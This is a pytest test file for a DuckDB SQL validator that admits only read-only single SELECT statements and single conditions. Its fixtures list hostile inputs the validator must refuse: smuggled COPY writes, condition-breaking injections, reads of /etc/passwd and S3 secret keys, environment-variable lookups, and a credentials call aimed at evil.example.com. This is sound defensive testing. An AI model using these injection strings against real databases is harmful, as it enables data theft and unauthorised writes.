"""Text of SQL that a read runs: one SELECT that only reads, and nothing else, in every DuckDB."""

import duckdb
import pytest

from rasteret_sql.database.own_connection import own_connection
from rasteret_sql.database.select_text import (
    Scope,
    is_admitted,
    nested,
    require_condition,
    require_select,
    table_macros,
)
from rasteret_sql.errors import InvalidIndexError

READS = (
    "FROM t",
    "FROM t;",
    "TABLE t",
    "VALUES (1)",
    "SELECT a -- a comment",
    "SELECT ';' AS a, '--' AS b, $$);$$ AS c /* ; */ FROM t",
    "WITH t AS (SELECT 1) FROM t UNION ALL FROM t",
    "WITH RECURSIVE n(a) AS (SELECT 1 UNION ALL SELECT a + 1 FROM n WHERE a < 3) FROM n",
    "FROM t USING SAMPLE 3 ROWS",
    "FROM t ORDER BY random() LIMIT 3",
    "FROM t PIVOT (sum(a) FOR b IN (1, 2))",
    "FROM 'x.parquet' WHERE a IN (FROM range(3))",
    "FROM read_csv('x.csv') JOIN read_parquet(['a', 'b']) USING (item_id)",
)
DOES_MORE = (
    "",
    "SELECT 1; SELECT 2",
    "SELECT 1; COPY (SELECT 1) TO 'OUT'",
    "COPY (SELECT 1) TO 'OUT'",
    "CREATE TABLE z AS SELECT 1",
    "ATTACH 'OUT'",
    "LOAD json",
    "INSTALL json",
    "SET threads = 1",
    "PRAGMA version",
    "CALL pragma_version()",
    "EXPLAIN ANALYZE FROM t",
    "EXPORT DATABASE 'OUT'",
    "WITH x AS (COPY (SELECT 1) TO 'OUT') FROM x",
    "WITH x AS MATERIALIZED (COPY (SELECT 1) TO 'OUT' (RETURN_FILES)) FROM x",
    "FROM (WITH x AS (COPY (SELECT 1) TO 'OUT') FROM x)",
    "WITH x AS (INSERT INTO t VALUES (1) RETURNING *) FROM x",
    "WITH x AS (DELETE FROM t RETURNING *) FROM x",
    "WITH x AS (UPDATE t SET a = 2 RETURNING *) FROM x",
    "FROM query('COPY (SELECT 1) TO ''OUT''')",
    "FROM QuErY('SELECT 1')",
    "FROM \"query\"('SELECT 1')",
    "FROM system.main.query('SELECT 1')",
    "FROM json_execute_serialized_sql(json_serialize_sql('SELECT 1'))",
    "FROM checkpoint()",
    "FROM enable_logging()",
    "FROM arrow_scan(1, 2, 3)",
    "FROM t, LATERAL (FROM query('SELECT 1'))",
    "SELECT (SELECT count(*) FROM query('SELECT 1'))",
    "SELECT write_log('x')",
    "SELECT list_transform([1], lambda x: write_log('x'))",
    "SELECT getenv('HOME')",
    "SELECT rst_credentials('s3://b/', settings := {'endpoint': 'http://evil.example.com'})",
    "SELECT rasteret_sql.main._rst_credentials('s3://b/', '{}')",
    "SELECT 'HOME'.getenv()",
    "SELECT sum(a) FILTER (WHERE getenv('A') = '') FROM t",
    "SELECT a FROM t ORDER BY getenv('A') LIMIT (SELECT nextval('s'))",
    "FROM read_csv(getenv('A'))",
    "SELECT json_serialize_plan('FROM ''x.csv''')",
)
READS_MORE_THAN_THE_INDEX = (
    "FROM read_text('/etc/passwd')",
    "FROM '/etc/passwd'",
    "FROM 'x.parquet'",
    "FROM 'https://example.com/x.parquet'",
    "FROM index, read_blob('x')",
    "FROM index WHERE item_id IN (FROM 'x.csv')",
    "FROM glob('*')",
    "FROM query_table('x.parquet')",
    "FROM parquet_metadata('x.parquet')",
    "FROM duckdb_settings()",
    "FROM information_schema.tables",
    "FROM main.index",
    "FROM (DESCRIBE 'x.csv')",
    "FROM (SUMMARIZE 'x.csv')",
    'FROM (WITH "x.csv" AS (SELECT 1) FROM "x.csv"), \'x.csv\'',
    "SELECT *, current_setting('s3_secret_access_key') AS a FROM index",
    "SELECT *, getvariable('a') AS a FROM index",
    "FROM which_secret('s3://x', 's3')",
)
CONDITIONS = (
    "a < 20",
    '"eo:cloud_cover" < 20 AND b',
    "(a) OR (b)",
    "a IN (1, 2) -- a comment",
    "a = ');' /* ) */",
    "a IN (FROM range(3))",
    "datetime < '2024-01-01'",
)
NO_CONDITIONS = (
    "",
    "true) OR (true",
    "true)); COPY (SELECT 1) TO 'OUT'; SELECT ((true",
    "true) UNION (SELECT 1",
    "true GROUP BY a",
    "true ORDER BY a",
    "true LIMIT 1",
    "true QUALIFY true",
    "true HAVING true",
    "true WINDOW w AS ()",
    "true USING SAMPLE 1",
    "true FROM t",
    "true WHERE a",
    "true UNION SELECT 1",
    "a AS b",
    "a, b",
    "DISTINCT a",
    "true; SELECT 1",
    "true;",
    "true /*",
    "getenv('A') = 'b'",
    "a IN (FROM query('SELECT 1'))",
    "a IN (WITH x AS (COPY (SELECT 1) TO 'OUT') FROM x)",
)


@pytest.fixture
def con():
    with own_connection() as con:
        con.execute("CREATE TABLE t (a INTEGER, b INTEGER)")
        yield con


@pytest.mark.parametrize("text", READS)
def test_a_select_that_reads_is_one_and_can_be_nested(con, text):
    found = require_select(con, text, "index")
    assert [each.type for each in con.extract_statements(f"FROM {nested(found)}")] == [duckdb.StatementType.SELECT]


@pytest.mark.parametrize("text", DOES_MORE)
def test_what_does_more_than_read_is_refused_and_nothing_is_written(con, tmp_path, text):
    with pytest.raises(InvalidIndexError, match=r"^index: got .*expected one "):
        require_select(con, text.replace("OUT", str(tmp_path / "out")), "index")
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize("text", [*DOES_MORE, *READS_MORE_THAN_THE_INDEX])
def test_a_text_of_somebody_else_reads_the_index_alone(con, text):
    with pytest.raises(InvalidIndexError):
        require_select(con, text, "query", scope=Scope(frozenset({"index"})))


@pytest.mark.parametrize(
    "text", ["FROM index", 'FROM "INDEX" AS i', "WITH x AS (FROM index) FROM x, range(3)", "FROM index WHERE a IN (1)"]
)
def test_a_text_of_somebody_else_may_read_the_index(con, text):
    assert require_select(con, text, "query", scope=Scope(frozenset({"index"}))) == text


def test_a_text_of_somebody_else_may_read_parquet_where_its_scope_says_so(con):
    scope = Scope(frozenset(), parquet=True)
    assert require_select(con, "FROM 'a b.parquet'", "chips", scope=scope) == "FROM 'a b.parquet'"
    for text in ("FROM 'a.csv'", "FROM read_parquet('a' || 'b')", "FROM read_text('a.parquet')"):
        with pytest.raises(InvalidIndexError, match="chips: got"):
            require_select(con, text, "chips", scope=scope)


@pytest.mark.parametrize("text", CONDITIONS)
def test_a_condition_is_one_expression_and_can_be_nested(con, text):
    assert require_condition(con, text, "where") == text
    assert len(con.extract_statements(f"FROM t WHERE {nested(text)}")) == 1


@pytest.mark.parametrize("text", NO_CONDITIONS)
def test_what_is_more_than_a_condition_is_refused(con, text):
    with pytest.raises(InvalidIndexError, match=r"^where: got .*expected one "):
        require_condition(con, text, "where")


def test_a_macro_of_the_session_may_be_called(con):
    con.execute("CREATE MACRO mine() AS TABLE FROM t")
    assert require_select(con, "FROM mine()", "index") == "FROM mine()"
    with pytest.raises(InvalidIndexError, match="with the table function mine, expected one SELECT that only reads"):
        require_select(
            con.cursor(), "FROM query('x'), mine()".replace("query('x'), ", ""), "index", scope=Scope(frozenset())
        )


@pytest.mark.parametrize("text", READS)
def test_a_served_session_may_read(con, text):
    ((tree,),) = con.execute("SELECT json_serialize_sql($1::VARCHAR)", [text]).fetchall()
    assert is_admitted(text, tree, table_macros(con))


@pytest.mark.parametrize("text", [text for text in DOES_MORE if "; SELECT" not in text and not text.startswith("EXPL")])
def test_a_served_session_may_do_no_more(con, text):
    ((tree,),) = con.execute("SELECT json_serialize_sql($1::VARCHAR)", [text]).fetchall()
    assert not is_admitted(text, tree, table_macros(con))


def test_a_message_shows_no_signature(con):
    with pytest.raises(InvalidIndexError) as caught:
        require_select(con, "COPY (SELECT 1) TO 'https://example.com/a?sig=abc'", "index")
    assert "sig=abc" not in str(caught.value)
